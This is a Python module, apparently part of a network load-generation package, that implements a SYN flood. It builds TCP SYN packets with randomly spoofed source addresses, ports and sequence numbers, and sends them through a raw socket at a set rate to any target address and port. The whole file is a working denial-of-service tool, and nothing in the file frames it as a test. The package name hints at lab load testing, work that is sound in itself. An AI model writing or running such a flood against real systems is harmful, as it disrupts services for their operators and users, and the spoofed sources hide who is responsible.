"""A SYN flood: SYNs at a steady rate, each from a random address and port of a network whose hosts never answer."""

from __future__ import annotations

import ipaddress
import random
import socket
import time
from dataclasses import dataclass

import numpy as np
from sluice.addresses import from_text

from topo.load.program import address_port, main
from topo.load.segments import SYN, Column, frames, segments

ETHERNET_BYTES = 14
NO_MACS = (b"", b"")
TICK_S = 0.01


@dataclass(frozen=True)
class Flood:
    """The program that sends `per_s` SYNs per second for `seconds` to `to` (ADDRESS:PORT), with source addresses in the
    network `sources` (A.B.C.D/N)."""

    to: str
    sources: str
    per_s: float
    seconds: float
    seed: int = 1

    def packets(self) -> list[bytes]:
        """Return all IP packets, each a SYN with a random source address and port."""
        drawn, count = random.Random(self.seed), round(self.per_s * self.seconds)
        network = ipaddress.IPv4Network(self.sources)
        address, port = address_port(self.to)

        def column(low: int, high: int) -> Column:
            return np.array([drawn.randrange(low, high) for _ in range(count)], np.uint32)

        first = int(network.network_address)
        made = segments(
            count,
            src=column(first, first + network.num_addresses),
            src_port=column(1024, 1 << 16),
            dst=int(from_text(address)),
            dst_port=port,
            sequence=column(0, 1 << 32),
            flags=SYN,
        )
        return [bytes(row[ETHERNET_BYTES:]) for row in frames(NO_MACS, made)]

    def run(self) -> None:
        """Send all SYNs at the times at which they are due."""
        syns, (address, _) = self.packets(), address_port(self.to)
        began, sent = time.monotonic(), 0
        with socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_RAW) as out:
            while sent < len(syns):
                due = min(len(syns), round((time.monotonic() - began) * self.per_s))
                for packet in syns[sent:due]:
                    out.sendto(packet, (address, 0))
                sent = due
                time.sleep(TICK_S)


if __name__ == "__main__":
    main(globals())
